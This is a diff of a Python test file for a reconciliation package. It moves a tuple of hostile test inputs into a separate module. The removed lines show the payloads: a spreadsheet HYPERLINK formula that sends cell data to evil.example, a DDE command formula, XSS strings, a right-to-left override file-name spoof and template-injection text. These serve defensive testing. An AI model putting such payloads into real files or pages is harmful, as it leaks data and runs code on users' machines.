@@ -9,6 +9,7 @@ from typing import TYPE_CHECKING
 
 import pandas as pd
 import pytest
+from hostile import HOSTILE
 
 import jtnet_recon as jr
 from jtnet_recon.sandbox import Sandbox
@@ -18,19 +19,6 @@ if TYPE_CHECKING:
     from pathlib import Path
 
 MADE_AT = "2026-01-02T03:04:05+09:00"
-
-HOSTILE = (
-    '=HYPERLINK("http://evil.example/"&A1,"click")',
-    "+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1,1)",
-    "<script>document.title='owned'</script>",
-    "\"><img src=x onerror=document.title='owned'>",
-    "javascript:document.title='owned'",
-    "\u202egpj.exe\u202c",
-    "_x0041_ \x00 \x1b ]]> & $_$ {{ 7 * 7 }}",
-    "긴 글 <b>" + "가" * 10_000,
-)
 
 
 def at(result: jr.Reconciliation, made_at: str = MADE_AT) -> jr.Reconciliation:
